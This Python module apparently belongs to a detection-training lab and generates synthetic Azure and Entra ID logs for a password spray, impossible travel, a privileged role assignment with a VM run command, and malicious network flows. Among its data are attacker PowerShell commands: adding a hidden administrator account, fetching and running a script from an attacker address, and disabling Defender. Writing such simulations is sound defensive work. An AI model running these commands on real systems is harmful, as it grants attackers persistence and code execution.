"""The cloud side: Entra ID password spray and impossible travel, a suspicious Azure role
assignment and VM run command, and Traffic Analytics flagging malicious flows."""

from __future__ import annotations

from datetime import timedelta
from types import MappingProxyType

from tracehound.lab.background.azure import resource_id
from tracehound.lab.background.signin import home_ip
from tracehound.lab.data.cloud import APPS, LOCKED_RESULT, SPRAY_RESULT, AzureOp
from tracehound.lab.data.places import FAR_PLACES
from tracehound.lab.ids import guid, public_ip_in

from .base import ScenarioSpec, Story, jitter
from .infra import attacker_ip

_SPRAY_AGENTS = (
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; MSAL 1.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36",
    "BAV2ROPC",
)


def password_spray(story: Story) -> None:
    """One password tried against many accounts from a few rented addresses; one works."""
    ctx, rng = story.ctx, story.rng
    place = story.pick(list(FAR_PLACES))
    ips = [
        public_ip_in(story.pick(list(place.prefixes)), rng) for _ in range(int(rng.integers(1, 4)))
    ]
    at = story.time_between(
        ctx.window.start + timedelta(hours=2), ctx.window.end - timedelta(hours=6)
    )
    app = story.pick(
        [a for a in APPS if a.name in ("Microsoft Office", "Microsoft Azure CLI", "OfficeHome")]
    )
    agent = story.pick(list(_SPRAY_AGENTS))
    users = list(ctx.estate.users)
    rng.shuffle(users)
    victim = story.pick(users[: max(1, len(users) // 2)])
    for rnd in range(int(rng.integers(1, 3))):
        for user in users:
            at += jitter(rng, 4, 0.9)
            ip = ips[int(rng.integers(len(ips)))]
            if user == victim and rnd == 0:
                story.signin(
                    user,
                    at,
                    ip,
                    place,
                    app,
                    "0",
                    user_agent=agent,
                    device={"deviceId": "", "operatingSystem": "", "browser": ""},
                )
                story.details["compromised"] = user.account.upn
                continue
            locked = rnd > 0 and rng.random() < 0.15
            code, desc = LOCKED_RESULT if locked else (SPRAY_RESULT, None)
            story.signin(
                user,
                at,
                ip,
                place,
                app,
                code,
                user_agent=agent,
                description=desc,
                device={"deviceId": "", "operatingSystem": "", "browser": ""},
            )
        at += timedelta(minutes=float(rng.uniform(20, 50)))
    story.details |= {
        "source_country": place.country,
        "attempts": sum(len(r) for r in story.rows.values()),
    }


def impossible_travel(story: Story) -> None:
    """A user signs in at home, then within the hour from another continent."""
    ctx, rng = story.ctx, story.rng
    user = story.pick(list(ctx.estate.users))
    at = story.time_between(
        ctx.window.start + timedelta(hours=3), ctx.window.end - timedelta(hours=3)
    )
    apps = [a for a in APPS if not a.admin_only]
    story.signin(user, at, home_ip(ctx, user), user.home, story.pick(apps), "0")
    far = story.pick(list(FAR_PLACES))
    away = at + timedelta(minutes=float(rng.uniform(12, 70)))
    ip = public_ip_in(story.pick(list(far.prefixes)), rng)
    for k in range(int(rng.integers(2, 5))):
        story.signin(
            user,
            away + timedelta(minutes=k * float(rng.uniform(1, 9))),
            ip,
            far,
            story.pick(apps),
            "0",
            device={"deviceId": "", "operatingSystem": "Linux", "browser": "Firefox 115.0"},
            user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
        )
    story.details |= {
        "from": user.home.country,
        "to": far.country,
        "minutes": round((away - at).total_seconds() / 60),
    }


_ROLE_OP = AzureOp(
    "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
    "Create role assignment",
    "MICROSOFT.AUTHORIZATION",
    "roleAssignments/{n}",
    0,
)
_RUN_OP = AzureOp(
    "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    "Run Command on Virtual Machine",
    "MICROSOFT.COMPUTE",
    "virtualMachines/{vm}",
    0,
)
_ROLES = MappingProxyType(
    {
        "Owner": "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
        "Contributor": "b24988ac-6180-42a0-ab88-20f7382dd24c",
        "User Access Administrator": "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9",
    }
)


def azure_role_and_runcommand(story: Story) -> None:
    """From a new address, an admin grants a privileged role and runs a command on a VM."""
    ctx, rng = story.ctx, story.rng
    admin = story.pick(ctx.estate.admins)
    ip = attacker_ip(rng)
    at = story.time_between(
        ctx.window.start + timedelta(hours=4), ctx.window.end - timedelta(hours=4)
    )
    portal = next(a for a in APPS if a.name == "Azure Portal")
    place = story.pick(list(FAR_PLACES))
    story.signin(
        admin,
        at,
        ip,
        place,
        portal,
        "0",
        device={"deviceId": "", "operatingSystem": "Windows 10", "browser": "Chrome 120.0.0"},
    )
    role = story.pick(list(_ROLES))
    principal = guid(rng)
    assignment = guid(rng)
    scope = f"/subscriptions/{ctx.estate.org.subscription_id}"
    at += jitter(rng, 240)
    rid = scope + f"/providers/Microsoft.Authorization/roleAssignments/{assignment}"
    story.azure(
        admin.account.upn,
        ip,
        _ROLE_OP,
        rid,
        at,
        caller_oid=admin.user_id,
        properties={
            "requestbody": f'{{"Id":"{assignment}","Properties":{{"PrincipalId":"{principal}","PrincipalType":"ServicePrincipal","RoleDefinitionId":"/providers/Microsoft.Authorization/roleDefinitions/{_ROLES[role]}","Scope":"{scope}"}}}}'  # noqa: E501
        },
    )
    vm = story.pick([d for d in ctx.estate.azure_vms if d.is_windows])
    at += jitter(rng, 420)
    script = story.pick(
        [
            "net user svc_backup P@ssw0rd!2024 /add; net localgroup administrators svc_backup /add",
            f"Invoke-WebRequest -Uri http://{attacker_ip(rng)}/s.ps1 -OutFile C:\\Windows\\Temp\\s.ps1; C:\\Windows\\Temp\\s.ps1",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
        ]
    )
    story.azure(
        admin.account.upn,
        ip,
        _RUN_OP,
        resource_id(ctx, _RUN_OP, vm.short_name),
        at,
        caller_oid=admin.user_id,
        properties={"commandId": "RunPowerShellScript", "script": script},
    )
    plan = story.plan(vm, story.day_of(at))
    agent = story.proc(
        vm,
        plan.procs["services"],
        "powershell",
        "powershell -ExecutionPolicy Unrestricted -File C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\Downloads\\script0.ps1",  # noqa: E501
        at + jitter(rng, 50),
    )
    story.details |= {
        "role": role,
        "principal": principal,
        "vm": vm.name,
        "script": script,
        "run_pid": agent.pid,
    }


def malicious_flows(story: Story) -> None:
    """Traffic Analytics marks flows with known-malicious addresses against exposed VMs."""
    ctx, rng = story.ctx, story.rng
    vms = [d for d in ctx.estate.azure_vms if d.internet_facing]
    at = story.time_between(
        ctx.window.start + timedelta(hours=2), ctx.window.end - timedelta(hours=6)
    )
    bad = [
        (attacker_ip(rng), story.pick(["RU", "CN", "NL", "RO", "VN", "BR"]))
        for _ in range(int(rng.integers(3, 7)))
    ]
    for _ in range(int(rng.integers(12, 40))):
        vm = story.pick(vms)
        ip, country = story.pick(bad)
        port = story.pick([3389, 445, 22, 5985, 1433] if vm.is_windows else [22, 80, 8080, 6379])
        t = at + timedelta(minutes=float(rng.uniform(0, 600)))
        allowed = port in (3389, 22)
        story.flow(
            vm,
            t,
            flow_type="MaliciousFlow",
            direction="I",
            status="A" if allowed else "D",
            remote_ip=ip,
            port=port,
            l7="rdp" if port == 3389 else "ssh" if port == 22 else "unknown",
            flows=int(rng.integers(1, 60)),
            country=country,
            rule="userrule_allow-rdp" if allowed else "defaultrule_denyallinbound",
            bytes_in=float(rng.integers(2_000, 90_000)),
        )
    c2_ip, c2_country = bad[0]
    vm = story.pick(vms)
    story.flow(
        vm,
        at + timedelta(minutes=float(rng.uniform(60, 500))),
        flow_type="MaliciousFlow",
        direction="O",
        status="A",
        remote_ip=c2_ip,
        port=443,
        flows=int(rng.integers(3, 30)),
        country=c2_country,
        bytes_out=float(rng.integers(20_000, 400_000)),
    )
    story.details |= {"malicious_ips": [ip for ip, _ in bad]}


SPECS = (
    ScenarioSpec(
        "entra-password-spray",
        "Entra ID password spray from abroad with one account compromised",
        ("T1110.003", "T1078.004"),
        ("TA0006", "TA0001"),
        password_spray,
    ),
    ScenarioSpec(
        "entra-impossible-travel",
        "Impossible-travel sign-in for one user",
        ("T1078.004",),
        ("TA0001", "TA0005"),
        impossible_travel,
    ),
    ScenarioSpec(
        "azure-role-runcommand",
        "Privileged Azure role assignment and VM run command from a new IP",
        ("T1098.003", "T1651", "T1078.004"),
        ("TA0003", "TA0004", "TA0002"),
        azure_role_and_runcommand,
    ),
    ScenarioSpec(
        "nsg-malicious-flows",
        "Traffic Analytics flags malicious flows to exposed VMs",
        ("T1595.001", "T1071.001"),
        ("TA0043", "TA0011"),
        malicious_flows,
    ),
)
